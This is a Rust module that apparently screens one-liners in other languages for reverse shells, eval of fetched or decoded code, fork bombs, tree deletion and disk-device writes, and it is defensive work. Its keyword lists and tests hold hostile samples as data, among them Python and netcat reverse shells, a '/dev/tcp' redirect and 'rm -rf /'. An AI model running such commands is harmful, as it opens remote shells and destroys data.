//! A small lexical look at one-liners in other languages. It sees what is
//! plain to see (a socket and a shell, a decoder and `exec`, a recursive delete
//! of a tree) and never clears code: what it does not see still prompts.

use super::fetched_code::{fetches, runs_fetched};

/// Languages whose idioms are told apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Language {
    Python,
    Perl,
    Ruby,
    Node,
    Php,
    Lua,
    Awk,
    Other,
}

/// What code would plainly do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Danger {
    ReverseShell,
    RemoteCode,
    DecodedCode,
    BareShell,
    ForkBomb,
    DeletesTree,
    WritesDevice,
}

/// Longer code is looked at only this far, in bytes.
const LOOKED_AT_MAX: usize = 64 * 1024;

const SOCKETS: &[&str] = &[
    "socket",
    "Socket",
    "TCPServer",
    "TCPSocket",
    "fsockopen",
    "pfsockopen",
    "stream_socket_client",
    "net.connect",
    "open_connection",
    "create_connection",
    "start_server(",
    "net.Socket",
    "createConnection",
    "socketConnection",
    "net.Dial",
    "net.createServer",
    "IO::Socket",
    "io.socket",
    "/inet/tcp",
    "/inet/udp",
    "/inet4/",
    "HTTP::Tiny",
    "Sockets",
    "connect(",
    "TcpStream",
    "tcp:connect",
    "gen_tcp",
    "ServerSocket",
    "new Socket",
    "java.net.Socket",
    "Socket.connect",
    "tls.connect",
    "IO.Socket",
    "/dev/tcp/",
    "/dev/udp/",
    "TCPClient",
    "socat",
    "Telnet(",
    "Deno.listen",
    "tcp_connect(",
];

const STARTERS: &[&str] = &[
    "exec(",
    "exec ",
    "exec\"",
    "exec'",
    "exec{",
    "system{",
    "exec sprintf",
    "execv",
    "execl",
    "system",
    "popen",
    "Popen",
    "proc_open",
    "shell_exec",
    "passthru",
    "subprocess",
    "spawn",
    "child_process",
    "execSync",
    "pty.",
    "\"pty\"",
    "'pty'",
    "os.execute",
    "io.popen",
    "IO.popen",
    "IO::popen",
    "Process.spawn",
    "Process.new",
    "pcntl_exec",
    "Kernel.",
    "open3",
    "`",
    "%x",
    "exec.Command",
    "ProcessBuilder",
    "Process.start",
    "Process.run",
    "Runtime",
    "run(",
    "readpipe",
    "qx",
    "do shell script",
    "dup2",
    "Dup2",
    "syscall.Exec",
    "fdopen",
    "getline",
    "cmd = readline",
    "System.cmd",
    "shell-command",
    "call-process",
    "start-process",
    "os.cmd",
    "os:cmd",
    "Port.open",
    ".execute()",
    "Deno.Command",
    "Command::new",
    "sys.process",
    "callCommand",
    "Sys.command",
    "interact(",
    "instance_eval",
];

const DECODERS: &[&str] = &[
    "b64decode",
    "base64_decode",
    "decode64",
    "a85decode",
    "b32decode",
    "unhexlify",
    "fromhex",
    "decode('hex",
    "rot13",
    "zlib.decompress",
    "gzinflate",
    "unpack",
    "atob(",
    "decode_base64",
    "\"base64\"",
    "Base64.",
    "'base64')",
    "hex2bin(",
    "pack(\"H",
    "pack('H",
    "map(chr",
    "fromCharCode",
    "\"hex\")",
    "'hex')",
];

const EVALUATORS: &[&str] = &[
    "exec(",
    "eval(",
    "eval ",
    "(eval)",
    "Function(",
    "assert(",
    "loadstring",
    "pickle.load",
    "marshal.load",
    "Marshal.load",
    "yaml.load(",
    "unsafe_load",
    "instance_eval",
    "system(",
    "popen(",
    "runInThisContext",
    "__import__",
    "execSync(",
];

/// Whether the code evaluates text. `json.load(` and `re.compile(` only parse.
fn evaluates(code: &str) -> bool {
    const BARE: [&str; 2] = ["load(", "compile("];
    let stands_alone = |call: &str| {
        code.match_indices(call).any(|(at, _)| {
            !code[..at].ends_with(|before: char| before.is_alphanumeric() || "._".contains(before))
        })
    };
    has(code, EVALUATORS) || BARE.iter().any(|call| stands_alone(call))
}

/// Everything plainly dangerous in `code`.
pub(crate) fn inspect(language: Language, code: &str) -> Vec<Danger> {
    let unquoted = without_requires(head(code));
    let code = unquoted.as_str();
    let mut found = Vec::new();
    let starts = has(code, STARTERS);
    if starts && serves_commands(code) {
        found.push(Danger::ReverseShell);
    }
    let scripted = language == Language::Other && connects_shell_words(code);
    if scripted || has(code, SOCKETS) && starts && (names_shell(code) || feeds_commands(code)) {
        found.push(Danger::ReverseShell);
    }
    let evaluates = evaluates(code);
    if fetches(code) && evaluates && !only_literal_starts(code) || runs_fetched(code) {
        found.push(Danger::RemoteCode);
    }
    if has(code, DECODERS) && evaluates {
        found.push(Danger::DecodedCode);
    }
    if starts && starts_bare_shell(language, code) {
        found.push(Danger::BareShell);
    }
    if forks_without_end(code) {
        found.push(Danger::ForkBomb);
    }
    if deletes_tree(code) {
        found.push(Danger::DeletesTree);
    }
    if writes_device(code) {
        found.push(Danger::WritesDevice);
    }
    found
}

/// `require("net").connect` is `net.connect`, `'r' + 'm'` is `'rm'`.
fn without_requires(code: &str) -> String {
    let mut plain = joined_strings(code);
    if code.contains("__import__(") || code.contains("import_module(") {
        for module in ["requests", "urllib.request", "httpx", "os", "subprocess", "socket", "pty"] {
            for quote in ['"', '\''] {
                for call in ["__import__", "importlib.import_module", "import_module"] {
                    plain = plain.replace(&format!("{call}({quote}{module}{quote})"), module);
                }
            }
        }
    }
    if code.contains("require(") {
        for module in ["net", "http", "https", "tls", "dgram", "fs"] {
            for quote in ['"', '\'', '`'] {
                let required = format!("require({quote}{module}{quote})");
                plain = plain.replace(&required, module);
                let node = format!("require({quote}node:{module}{quote})");
                plain = plain.replace(&node, module);
            }
        }
    }
    plain
}

/// String literals put together with `+`, `.` or `..` as one.
fn joined_strings(code: &str) -> String {
    let mut joined = code.to_owned();
    if !code.contains(['+', '.']) {
        return joined;
    }
    for quote in ['\'', '"'].into_iter().filter(|quote| code.contains(*quote)) {
        for operator in ["+", " + ", ".", " . ", "..", " .. "] {
            joined = joined.replace(&format!("{quote}{operator}{quote}"), "");
        }
    }
    joined
}

/// Whether text given to a program that is no known interpreter connects a
/// shell to a network address all the same.
pub(crate) fn connects_shell(code: &str) -> bool {
    let code = head(code);
    let calls = code.contains('(') || code.contains('[') || code.contains('{');
    let shell =
        || names_shell(code) || feeds_commands(code) || has(code, &["shell:true", "shell: true"]);
    calls && has(code, SOCKETS) && has(code, STARTERS) && shell()
}

/// Whether text in which a shell's words stand anywhere, as in another program's
/// macro or key binding, connects a shell to a network address: a redirection to
/// `/dev/tcp`, or netcat with a shell.
pub(crate) fn connects_shell_words(text: &str) -> bool {
    const REDIRECTIONS: [&str; 3] = [">&", "<&", "&>"];
    const NETCATS: [&str; 5] = ["nc", "ncat", "netcat", "nc.traditional", "rcat"];
    let text = head(text);
    let socket = has(text, &["/dev/tcp/", "/dev/udp/"]) && has(text, &REDIRECTIONS);
    if !socket && !text.contains("nc") && !text.contains("rcat") {
        return false;
    }
    let part = |each: char| each.is_alphanumeric() || "/_.-".contains(each);
    let words: Vec<&str> = text.split(|each| !part(each)).filter(|word| !word.is_empty()).collect();
    let base = |word: &&&str| word.rsplit('/').next().unwrap_or_default().to_owned();
    let shell = |word: &&&str| is_shell_name(&base(word));
    if socket && words.iter().any(|word| shell(&word)) {
        return true;
    }
    let starts_shell = |pair: &[&str]| {
        let flag = pair[0];
        let shells = matches!(base(&&pair[1]).as_str(), "env" | "busybox" | "toybox");
        flag.starts_with('-') && flag.ends_with(['e', 'c']) && (shells || shell(&&pair[1]))
    };
    let netcat = words.iter().position(|word| NETCATS.contains(&base(&word).as_str()));
    netcat.is_some_and(|at| words[at..].windows(2).take(12).any(starts_shell))
}

/// Whether a program of this name is a shell, by the plain names.
fn is_shell_name(name: &str) -> bool {
    const SHORT: [&str; 3] = ["rc", "es", "nu"];
    super::interpreters::shell(name).is_some() && !SHORT.contains(&name)
}

/// Whether the code is a reverse or bind shell in some language.
pub(crate) fn is_reverse_shell(code: &str) -> bool {
    // Nothing shorter names a socket and a shell.
    const SHORTEST: usize = 12;
    if code.len() < SHORTEST {
        return false;
    }
    connects_shell_words(code) || inspect(Language::Other, code).contains(&Danger::ReverseShell)
}

/// Whether the code reads its standard input and evaluates text.
pub(crate) fn evaluates_input(code: &str) -> bool {
    const INPUTS: &[&str] = &[
        "stdin",
        "STDIN",
        "readFileSync(0",
        "/dev/stdin",
        "<>",
        "$<",
        "ARGF",
        "gets",
        "input(",
        "php://input",
    ];
    let code = head(code);
    has(code, INPUTS) && evaluates(code)
}

/// The texts that code which prints something may print.
pub(crate) fn printed(code: &str) -> Vec<String> {
    const PRINTERS: [&str; 8] =
        ["print", "puts", "echo", "say", "write", "console.log", "printf", "putStr"];
    let joined = joined_strings(head(code));
    if !has(&joined, &PRINTERS) {
        return Vec::new();
    }
    strings(&joined).into_iter().filter(|text| text.contains(' ')).take(8).collect()
}

/// Whether the code decodes something.
pub(crate) fn decodes(code: &str) -> bool {
    has(head(code), DECODERS)
        || has(head(code), &["pack(", "pack \"", "pack '", "fromCharCode", "chr("])
}

/// PowerShell's recursive delete of a tree or home.
pub(crate) fn removes_tree(code: &str) -> bool {
    let lower = head(code).to_ascii_lowercase();
    let removes =
        has(&lower, &["remove-item", "rmdir ", "rm ", "ri ", "del "]) && lower.contains("-r");
    let tree = |word: &str| {
        matches!(
            word.trim_matches(['"', '\'', ';']).trim_end_matches('*').trim_end_matches(['/', '\\']),
            "" | "~"
                | "$home"
                | "$env:home"
                | "$env:userprofile"
                | "c:"
                | "/etc"
                | "/usr"
                | "/var"
                | "/home"
                | "/root"
        ) && word.contains(['/', '~', '$', ':'])
    };
    removes && lower.split_whitespace().any(tree)
}

/// PowerShell's way to hand what a socket sends to a shell.
pub(crate) fn connects_and_invokes(code: &str) -> bool {
    let lower = head(code).to_ascii_lowercase();
    let connects = ["tcpclient", "sockets.", "tcplistener", "udpclient"];
    let invokes = [
        "iex",
        "invoke-expression",
        "start-process",
        "diagnostics.process",
        "cmd.exe",
        "powershell",
        "/bin/sh",
    ];
    has(&lower, &connects) && has(&lower, &invokes)
}

pub(super) fn head(code: &str) -> &str {
    let mut end = code.len().min(LOOKED_AT_MAX);
    while !code.is_char_boundary(end) {
        end -= 1;
    }
    &code[..end]
}

pub(super) fn has(code: &str, words: &[&str]) -> bool {
    words.iter().any(|word| code.contains(word))
}

/// Whether a string names a shell, alone or with arguments.
fn names_shell(code: &str) -> bool {
    let is_shell = |text: &String| {
        let mut names = text.split_whitespace().map(|word| word.rsplit('/').next().unwrap_or(word));
        let first = names.find(|name| !matches!(*name, "env" | "busybox" | "toybox"));
        first.is_some_and(|name| {
            is_shell_name(name) || matches!(name, "cmd" | "cmd.exe" | "powershell" | "pwsh")
        })
    };
    has(code, &["/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/ksh"])
        || strings(code).iter().any(|text| {
            // Code within code: `exec("…execl(\"/bin/tcsh\")")`.
            is_shell(text) || text.contains(['"', '\'']) && strings(text).iter().any(is_shell)
        })
}

/// What comes from the socket is run, without naming a shell.
fn feeds_commands(code: &str) -> bool {
    let compact: String = code.chars().filter(|each| !each.is_whitespace()).collect();
    has(&compact, &["while(<$", "|&getline", "system$_", ":lines()"])
        || has(
            code,
            &[
                "system$_",
                "`$_`",
                "`#{",
                "gets",
                "recv",
                "receive",
                "readline",
                "readLines",
                "socket_read",
                "fread(",
                "stream_get",
                "fgets",
                "on('data'",
                "on(\"data\"",
                "qqx{$",
                ".get ->",
                "read(S",
                "read_term(",
            ],
        )
}

/// A web server whose requests are commands: `execSync(request.url)`.
fn serves_commands(code: &str) -> bool {
    const SERVERS: &[&str] =
        &["http.createServer", "HTTPServer(", "Bun.serve", "Deno.serve", "WEBrick", "Flask("];
    const REQUESTS: &[&str] = &[".url", "rfile", ".path", ".query", ".body", "request.args"];
    const RUNS: &[&str] =
        &["exec(", "execSync(", "getoutput(", "popen(", "system(", "check_output(", "spawn(", "`"];
    let server = has(code, SERVERS);
    let arguments = RUNS.iter().flat_map(|call| {
        code.match_indices(call)
            .take(16)
            .map(|(at, _)| code.get(at + call.len()..).unwrap_or_default())
    });
    // Only what stands in the call itself counts.
    server
        && arguments
            .into_iter()
            .any(|rest| has(rest.split([';', '\n']).next().unwrap_or_default(), REQUESTS))
}

/// A one-liner such as `os.system('curl …')`: the string is judged as shell.
fn only_literal_starts(code: &str) -> bool {
    !has(
        code,
        &[
            "exec(",
            "(eval)",
            "eval(",
            "eval ",
            "Function(",
            "compile(",
            "load(",
            "loadstring",
            "instance_eval",
        ],
    )
}

/// The code's whole purpose is a shell: a program call with nothing but a
/// shell's path.
fn starts_bare_shell(language: Language, code: &str) -> bool {
    let quoted = strings(code);
    let bare = |text: &String| {
        matches!(
            text.trim().trim_end_matches(" -i").trim_end_matches(" -p").trim_end_matches(" -l"),
            "/bin/sh" | "/bin/bash" | "/bin/zsh" | "/bin/dash" | "/bin/ksh" | "/usr/bin/bash"
        )
    };
    let _ = language;
    quoted.iter().any(bare)
}

fn forks_without_end(code: &str) -> bool {
    let compact: String = code.chars().filter(|each| !each.is_whitespace()).collect();
    // A program that starts itself anew, twice.
    let itself =
        ["fork(__filename", "(process.argv[0],process.argv", "(process.execPath,process.argv"];
    if itself.iter().map(|each| compact.matches(each).count()).sum::<usize>() > 1 {
        return true;
    }
    let forks = has(&compact, &itself)
        || has(
            &compact,
            &[
                "fork()",
                "os.fork",
                "Process.fork",
                "forkwhile",
                "loop{fork",
                "fork&&",
                "{fork",
                "fork;",
            ],
        );
    let forever = has(
        &compact,
        &[
            "while1",
            "whileTrue",
            "while(1)",
            "while(true)",
            "for(;;)",
            "loop{",
            "forkwhile",
            "{fork}",
            "initer(int,",
            "itertools.count(",
            "itertools.repeat(",
        ],
    );
    forks && forever
}

fn deletes_tree(code: &str) -> bool {
    let deletes = has(
        code,
        &[
            "rmtree",
            "rm_rf",
            "rm_r(",
            "rmSync",
            "fs.rm(",
            "rmdirSync",
            "remove_dir_all",
            "removeSync",
            "remove_tree",
            "rimraf",
            "FileUtils.rm",
            "RecursiveDirectoryIterator",
            "deltree",
            "removedirs",
            "unlink(",
            "{unlink",
            "RemoveAll",
            "Deno.remove",
            "delete_recursive",
            "(delete-directory",
            "removeItem(",
            "recursive=true",
            "os.remove(",
            "os.unlink(",
            "unlinkSync(",
            "file delete -force",
        ],
    );
    let tree = |text: &String| {
        let path = text.trim_end_matches(['/', '*']);
        path.is_empty() && text.starts_with('/')
            || matches!(
                path,
                "~" | "/etc"
                    | "/usr"
                    | "/var"
                    | "/home"
                    | "/root"
                    | "/bin"
                    | "/boot"
                    | "/lib"
                    | "/sbin"
                    | "/opt"
            )
    };
    let home = has(
        code,
        &[
            "expanduser",
            "homedir()",
            "Path.home()",
            "Dir.home",
            "$HOME",
            "ENV['HOME']",
            "os.environ['HOME']",
            "process.env.HOME",
        ],
    );
    // Tcl needs no quotes.
    let bare = code.split_once("file delete -force").map_or("", |(_, rest)| rest);
    let bare = bare.split_whitespace().next().unwrap_or_default().trim_end_matches([';', '}']);
    deletes
        && ((bare.starts_with('/') && tree(&bare.to_owned()))
            || strings(code).iter().any(tree)
            || home && !code.contains("join"))
}

fn writes_device(code: &str) -> bool {
    let opens = has(
        code,
        &[
            "open(",
            "open F",
            "open(my",
            "open my",
            "File.open",
            "writeFile",
            "createWriteStream",
            "fopen",
            "file_put_contents",
            "File.write",
        ],
    );
    let writes =
        has(code, &["'w", "\"w", "'r+", "\"r+", "'a", "\"a", "write", "put_contents", ">"]);
    let device = |text: &String| {
        text.trim_start_matches(['>', '+', '<', ' ']).strip_prefix("/dev/").is_some_and(|name| {
            ["sd", "hd", "vd", "nvme", "mmcblk", "disk", "mem", "dm-"]
                .iter()
                .any(|start| name.starts_with(start))
        })
    };
    opens && writes && strings(code).iter().any(device)
}

/// Whether the code starts other programs.
pub(crate) fn runs_strings(_language: Language, code: &str) -> bool {
    has(head(code), STARTERS)
}

/// String literals that the code would hand to a shell, judged as scripts.
pub(crate) fn shell_strings(_language: Language, code: &str) -> Vec<String> {
    let joined = joined_strings(head(code));
    let code = joined.as_str();
    if !has(code, STARTERS) {
        return Vec::new();
    }
    // The home as an argument of its own: `system("rm", "-rf", $ENV{HOME})`.
    const HOMES: [&str; 7] = [
        "$ENV{HOME}",
        "$ENV{'HOME'}",
        "ENV['HOME']",
        "os.environ['HOME']",
        "os.environ[\"HOME\"]",
        "process.env.HOME",
        "os.homedir()",
    ];
    let named = HOMES.iter().fold(code.to_owned(), |code, home| code.replace(home, "'~'"));
    let all = strings(&named);
    let mut scripts: Vec<String> = if named == code { Vec::new() } else { strings(code) };
    // A script of one word has operators, or a blank in another spelling.
    let script = |text: &String| text.contains([' ', '|', ';', '<', '>', '$', '`', '{']);
    scripts.retain(script);
    scripts.truncate(16);
    let more: Vec<String> = all.iter().filter(|text| script(text)).take(16).cloned().collect();
    scripts.extend(more);
    scripts.extend(bracketed(code));
    // Tcl's `exec` needs no quotes.
    let bare = |line: &str| {
        let line = line.trim();
        line.strip_prefix("exec ").or(line.strip_prefix("spawn ")).map(str::to_owned)
    };
    scripts.extend(code.split(['\n', ';']).filter_map(bare).take(16));
    // `["rm", "-rf", "/"]`: neighbouring strings are an argument list too.
    if all.len() > 1 && all.len() <= 16 {
        let words: Vec<String> = all.iter().filter(|text| !text.contains(' ')).cloned().collect();
        // The first may name a module or a program that starts it.
        for at in 0..words.len().min(3) {
            scripts.push(words[at..].join(" "));
        }
    }
    scripts
}

/// `qx(…)`, `%x{…}`, `system qw(…)`: commands in brackets instead of quotes.
fn bracketed(code: &str) -> Vec<String> {
    let mut found = Vec::new();
    for opener in ["qx", "%x", "qw", "qq", "%w"] {
        for (at, _) in code.match_indices(opener).take(16) {
            let rest = code[at + opener.len()..].trim_start();
            let close = match rest.chars().next() {
                Some('(') => ')',
                Some('{') => '}',
                Some('[') => ']',
                Some('<') => '>',
                Some(same @ ('/' | '|' | '!' | '#')) => same,
                _ => continue,
            };
            let inner = &rest[1..];
            found.extend(inner.find(close).map(|end| inner[..end].to_owned()));
        }
    }
    found
}

/// The string literals of `code`: quotes and backticks, escapes kept simple.
pub(super) fn strings(code: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut characters = code.chars();
    while let Some(open) = characters.next() {
        if !matches!(open, '\'' | '"' | '`') {
            continue;
        }
        let mut text = String::new();
        while let Some(next) = characters.next() {
            if next == open {
                found.push(std::mem::take(&mut text));
                break;
            }
            if next == '\\' {
                match characters.next() {
                    Some('n') => text.push('\n'),
                    Some(other) => text.push(other),
                    None => break,
                }
            } else {
                text.push(next);
            }
        }
        if found.len() >= 64 {
            break;
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_socket_with_a_shell_is_a_reverse_shell() {
        let code = r#"import socket,os;c=socket.socket();c.connect(("192.0.2.1",99));os.dup2(c.fileno(),0);os.execv("/bin/sh",["sh"])"#;
        assert!(inspect(Language::Python, code).contains(&Danger::ReverseShell));
        let plain = r#"import socket;print(socket.gethostname())"#;
        assert_eq!(inspect(Language::Python, plain), []);
    }

    #[test]
    fn shell_words_inside_other_text_are_found() {
        for text in [
            "macro(/bin/sh -i >& /dev/tcp/192.0.2.1/99 0>&1)",
            "enter:become(ncat 192.0.2.1 99 -e /bin/bash)",
            "Pre-Invoke {\"nc -lvp 99 -e /bin/sh\"};",
        ] {
            assert!(connects_shell_words(text), "{text}");
        }
        for text in
            ["cat < /dev/tcp/192.0.2.1/99", "sync -e sh", "nc -z host 80", "rsync -e ssh a b"]
        {
            assert!(!connects_shell_words(text), "{text}");
        }
    }

    #[test]
    fn decoding_alone_is_harmless_and_decoding_into_exec_is_not() {
        assert_eq!(inspect(Language::Python, "print(base64.b64decode('eA=='))"), []);
        let run = "exec(base64.b64decode('eA=='))";
        assert_eq!(inspect(Language::Python, run), [Danger::DecodedCode]);
    }

    #[test]
    fn strings_for_a_shell_are_found() {
        assert_eq!(shell_strings(Language::Python, "os.system('ls -l')"), ["ls -l"]);
        assert!(shell_strings(Language::Python, "print('rm -rf /')").is_empty());
    }
}
